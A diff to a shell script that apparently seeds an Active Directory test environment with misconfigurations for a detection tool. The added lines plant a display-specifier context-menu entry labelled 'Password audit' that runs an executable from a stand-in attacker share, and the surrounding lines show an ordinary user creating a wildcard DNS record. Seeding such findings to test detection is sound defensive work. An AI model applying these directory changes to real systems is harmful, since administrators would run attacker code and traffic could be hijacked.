@@ -253,6 +253,10 @@ if out=$(printf 'dn: DC=*,DC=%s,CN=MicrosoftDNS,DC=DomainDnsZones,%s\nchangetype
   log "OK    over LDAP as asrep_user (an ordinary user): wildcard record *.$DNSDOM -> ${IP%.*}.66"
 else log "REFUSED wildcard record as asrep_user: $(echo "$out" | tr '\n' ' ' | cut -c1-200)"; fi
 rm -f "$W/asrep_user.pw"
+# display specifier (AD-DSP-001): a context menu entry of the AD consoles on
+# user objects that runs a program from a share outside SYSVOL
+printf 'dn: CN=user-Display,CN=409,CN=DisplaySpecifiers,CN=Configuration,%s\nchangetype: modify\nadd: adminContextMenu\nadminContextMenu: 9,&Password audit,\\\\files.attacker.test\\tools\\audit.exe\n' "$B" \
+  | try "adminContextMenu running \\\\files.attacker.test\\tools\\audit.exe on user-Display (409)"
 # changes in the incident window on objects older than it, dated only by
 # their replication metadata (AD-ACL-012, AD-PRV-022): an ACE for Domain
 # Admins on AdminSDHolder (a trusted holder: no ACL finding), and one more
